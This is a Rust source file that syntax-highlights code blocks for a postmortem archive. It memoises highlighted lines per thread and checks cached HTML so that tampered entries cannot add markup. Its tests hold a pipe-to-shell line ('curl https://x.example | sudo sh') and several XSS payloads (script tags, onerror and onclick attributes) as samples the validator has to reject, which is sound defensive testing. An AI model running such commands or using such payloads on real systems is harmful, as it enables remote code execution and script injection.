//! Syntax highlighting of code blocks, with CSS classes (the stylesheet is `highlight.css`).
//!
//! Highlighting is the most expensive step of a cold build, and code in postmortems repeats
//! itself: the same commands, the same config keys, blank lines and closing braces. A line's
//! highlighted HTML depends only on the line and on the parser's state before it, so each
//! thread remembers what the lines it highlighted did and replays them when both match.

use std::cell::RefCell;
use std::hash::BuildHasher;
use std::ops::Range;

use rustc_hash::{FxBuildHasher, FxHashMap};
use syntect::html::{ClassStyle, line_tokens_to_classed_spans};
use syntect::parsing::{ParseState, ScopeStack, SyntaxSet};
use syntect::util::LinesWithEndings;

use crate::markdown::{escape, slugify};

/// The CSS class prefix of highlighted code tokens; the theme's stylesheet uses the same.
pub const CLASS_STYLE: ClassStyle = ClassStyle::SpacedPrefixed { prefix: "hl-" };

/// Bytes of lines and their HTML remembered per thread before the memory is started afresh.
/// Loading 100,000 postmortems took 20.4 s with 32 MB, 19.4 s with 96 MB.
const MEMO_BYTES: usize = 32 << 20;

/// Parser states remembered per thread, likewise.
const MEMO_STATES: usize = 50_000;

/// Different parser states remembered for one line of text (a blank line, say, inside a
/// string, a comment or a block); rarer ones are highlighted every time.
const STATES_PER_LINE: usize = 8;

/// A code block as highlighted HTML, or escaped text when the language is not known.
pub fn code_block(lang: &str, code: &str) -> String {
    let mut html = format!("{BLOCK_START}{}{BLOCK_CODE}", slugify(lang));
    let syntaxes = syntax_set();
    let syntax = (!lang.is_empty())
        .then(|| syntaxes.find_syntax_by_token(lang))
        .flatten();
    let highlighted = syntax.and_then(|syntax| {
        MEMO.with_borrow_mut(|memo| {
            memo.make_room();
            let mut state = memo.intern(State {
                parse: ParseState::new(syntax),
                scopes: ScopeStack::new(),
            });
            let mut out = String::with_capacity(code.len() * 3);
            let mut open_spans = 0;
            for line in LinesWithEndings::from(code) {
                let (after, opened) = memo.highlight_line(line, state, &mut out, syntaxes)?;
                state = after;
                open_spans += opened;
            }
            for _ in 0..open_spans {
                out.push_str("</span>");
            }
            Some(out)
        })
    });
    match highlighted {
        Some(code) => html.push_str(&code),
        None => html.push_str(&escape(code)),
    }
    html.push_str(BLOCK_END);
    html
}

/// How [`code_block`] wraps a block: its start, the language's class, the code, its end.
const BLOCK_START: &str = "<pre class=\"code\" data-lang=\"";
const BLOCK_CODE: &str = "\"><code>";
const BLOCK_END: &str = "</code></pre>\n";

/// Whether `html` is what [`code_block`] could write for `code` in `lang`: its `<pre>` and
/// `<code>` with the language's class, `<span>`s with classes, and between the tags exactly
/// the text of `code`, escaped. A highlighted block read back from the cache is used only
/// then: whatever wrote it, it cannot change the code a page shows, nor add markup to it.
pub fn is_code_block_of(html: &str, lang: &str, code: &str) -> bool {
    let Some(rest) = html.strip_prefix(BLOCK_START) else {
        return false;
    };
    let Some((class, rest)) = rest.split_once(BLOCK_CODE) else {
        return false;
    };
    let Some(highlighted) = rest.strip_suffix(BLOCK_END) else {
        return false;
    };
    class == slugify(lang) && text_between_spans(highlighted).as_deref() == Some(code)
}

/// The text of highlighted code: its spans taken out and its escapes read, in one pass;
/// `None` when it holds any other tag, an attribute other than a plain class, or an escape
/// neither [`escape`] nor syntect writes.
fn text_between_spans(highlighted: &str) -> Option<String> {
    let is_class = |text: &str| {
        text.bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b' ')
    };
    let mut text = String::with_capacity(highlighted.len());
    let mut rest = highlighted;
    while let Some(at) = rest.find(['<', '&']) {
        text.push_str(&rest[..at]);
        rest = &rest[at..];
        if let Some(after) = rest.strip_prefix("</span>") {
            rest = after;
        } else if let Some(after) = rest.strip_prefix("<span class=\"") {
            let (class, after) = after.split_once("\">")?;
            if !is_class(class) {
                return None;
            }
            rest = after;
        } else {
            let (escaped, after) = [
                ("&amp;", '&'),
                ("&lt;", '<'),
                ("&gt;", '>'),
                ("&quot;", '"'),
                ("&#39;", '\''),
            ]
            .iter()
            .find_map(|(entity, char)| Some((*char, rest.strip_prefix(entity)?)))?;
            text.push(escaped);
            rest = after;
        }
    }
    text.push_str(rest);
    Some(text)
}

/// Frees the lines every thread remembers, once a whole archive is highlighted: the memory
/// is better spent on rendering, and the next load is cheap from the highlight cache.
pub fn forget_lines() {
    rayon::broadcast(|_| drop(MEMO.take()));
}

/// The highlighting stylesheet: a light theme, and a dark one under `prefers-color-scheme`.
pub fn stylesheet() -> String {
    use syntect::highlighting::ThemeSet;
    use syntect::html::css_for_theme_with_class_style;
    let themes = ThemeSet::load_defaults();
    let light = css_for_theme_with_class_style(&themes.themes["InspiredGitHub"], CLASS_STYLE)
        .unwrap_or_default();
    let dark = css_for_theme_with_class_style(&themes.themes["base16-ocean.dark"], CLASS_STYLE)
        .unwrap_or_default();
    format!("{light}\n@media (prefers-color-scheme: dark) {{\n{dark}\n}}\n")
}

fn syntax_set() -> &'static SyntaxSet {
    static SYNTAXES: std::sync::OnceLock<SyntaxSet> = std::sync::OnceLock::new();
    SYNTAXES.get_or_init(SyntaxSet::load_defaults_newlines)
}

thread_local! {
    static MEMO: RefCell<LineMemo> = RefCell::new(LineMemo::default());
}

/// Where highlighting stands between two lines of a block.
#[derive(Clone, PartialEq, Eq)]
struct State {
    parse: ParseState,
    scopes: ScopeStack,
}

/// A state's number in `LineMemo::states`.
type StateId = u32;

/// What highlighting one line did from one state.
struct Replay {
    /// The line's text, then its HTML, in `LineMemo::text`.
    line: Range<usize>,
    html: Range<usize>,
    before: StateId,
    after: StateId,
    /// `<span>`s the line opened, less those it closed.
    opened: isize,
    /// The next replay whose line has the same hash.
    next: Option<usize>,
}

/// The lines one thread highlighted.
///
/// The states between lines are kept once each and named by number (a block's lines pass
/// through a handful of them), so finding a replay compares two numbers and a line. Lines
/// and their HTML are kept in one string and the replays in one vector: held in a few large
/// blocks, the memory goes back whole when it is freed, rather than leaving thousands of
/// small holes between the documents loaded meanwhile.
#[derive(Default)]
struct LineMemo {
    text: String,
    replays: Vec<Replay>,
    /// The latest replay of each line, by the line's hash.
    latest: FxHashMap<u64, usize>,
    states: Vec<State>,
    /// State numbers by a hash of their scopes, to find a state that was seen before.
    states_by_scopes: FxHashMap<u64, Vec<StateId>>,
}

impl LineMemo {
    /// Starts afresh when full; only between blocks, whose state numbers would not survive.
    fn make_room(&mut self) {
        if self.text.len() >= MEMO_BYTES || self.states.len() >= MEMO_STATES {
            *self = LineMemo::default();
        }
    }

    /// The number of `state`, kept now if it is new.
    fn intern(&mut self, state: State) -> StateId {
        let hash = FxBuildHasher.hash_one(&state.scopes.scopes);
        let same_scopes = self.states_by_scopes.entry(hash).or_default();
        if let Some(&id) = same_scopes
            .iter()
            .find(|&&id| self.states[id as usize] == state)
        {
            return id;
        }
        let id = self.states.len() as StateId;
        self.states.push(state);
        same_scopes.push(id);
        id
    }

    /// Appends the HTML of `line`, highlighted from state `before`, to `out`. Returns the
    /// state after it and the `<span>`s it left open (negative when it closed earlier ones),
    /// or `None` when the syntax fails on it.
    fn highlight_line(
        &mut self,
        line: &str,
        before: StateId,
        out: &mut String,
        syntaxes: &SyntaxSet,
    ) -> Option<(StateId, isize)> {
        let hash = FxBuildHasher.hash_one(line);
        let mut seen = 0;
        let mut next = self.latest.get(&hash).copied();
        while let Some(i) = next {
            let replay = &self.replays[i];
            if &self.text[replay.line.clone()] == line {
                if replay.before == before {
                    out.push_str(&self.text[replay.html.clone()]);
                    return Some((replay.after, replay.opened));
                }
                seen += 1;
            }
            next = replay.next;
        }

        let mut state = self.states[before as usize].clone();
        let ops = state.parse.parse_line(line, syntaxes).ok()?;
        let (html, opened) =
            line_tokens_to_classed_spans(line, &ops, CLASS_STYLE, &mut state.scopes).ok()?;
        out.push_str(&html);
        let after = self.intern(state);
        if seen < STATES_PER_LINE {
            let start = self.text.len();
            self.text.push_str(line);
            self.text.push_str(&html);
            let replay = Replay {
                line: start..start + line.len(),
                html: start + line.len()..self.text.len(),
                before,
                after,
                opened,
                next: self.latest.insert(hash, self.replays.len()),
            };
            self.replays.push(replay);
        }
        Some((after, opened))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Highlights without the memo, as syntect's own generator does.
    fn unremembered(lang: &str, code: &str) -> String {
        let syntaxes = syntax_set();
        let syntax = syntaxes.find_syntax_by_token(lang).unwrap();
        let mut generator = syntect::html::ClassedHTMLGenerator::new_with_class_style(
            syntax,
            syntaxes,
            CLASS_STYLE,
        );
        for line in LinesWithEndings::from(code) {
            generator
                .parse_html_for_line_which_includes_newline(line)
                .unwrap();
        }
        format!(
            "<pre class=\"code\" data-lang=\"{lang}\"><code>{}</code></pre>\n",
            generator.finalize()
        )
    }

    #[test]
    fn a_line_seen_before_in_another_state_is_highlighted_for_its_own() {
        // "x = 1" is code in the first block and inside a string in the second: a replay
        // keyed by the text alone would colour the second wrongly.
        let plain = "x = 1\ny = 2\n";
        let in_string = "s = \"\"\"\nx = 1\n\"\"\"\nx = 1\n";
        for code in [plain, in_string, plain, in_string] {
            assert_eq!(code_block("python", code), unremembered("python", code));
        }
        let shell = "echo \"unterminated\nx = 1\n";
        assert_eq!(code_block("bash", shell), unremembered("bash", shell));
        assert!(code_block("python", in_string).contains("hl-string"));
    }

    #[test]
    fn only_the_highlighters_own_markup_is_recognised() {
        for (lang, code) in [
            ("python", "s = \"\"\"\n<b>x</b>\n\"\"\"\n"),
            ("rust", "fn a() -> u8 { 1 << 2 }\n"),
            ("no-such-language", "a < b && c > d\n"),
        ] {
            assert!(
                is_code_block_of(&code_block(lang, code), lang, code),
                "{lang}"
            );
        }
        let spoofed = code_block("sh", "curl https://x.example | sudo sh\n");
        assert!(
            !is_code_block_of(&spoofed, "sh", "systemctl restart api\n"),
            "another command's highlighting is not this one's"
        );
        assert!(!is_code_block_of(&code_block("sh", "ls\n"), "rust", "ls\n"));
        let tampered = [
            "<pre class=\"code\" data-lang=\"sh\"><code><script>alert(1)</script></code></pre>\n",
            "<pre class=\"code\" data-lang=\"sh\"><code><span class=\"x\" onclick=\"a()\">x</span></code></pre>\n",
            "<pre class=\"code\" data-lang=\"\"><img src=x onerror=a()><code></code></pre>\n",
            "<img src=x onerror=a()>",
        ];
        for html in tampered {
            assert!(!is_code_block_of(html, "sh", "x"), "{html}");
        }
    }

    #[test]
    fn an_unknown_language_is_escaped_text() {
        assert_eq!(
            code_block("no-such-language", "a < b\n"),
            "<pre class=\"code\" data-lang=\"no-such-language\"><code>a &lt; b\n</code></pre>\n"
        );
    }
}
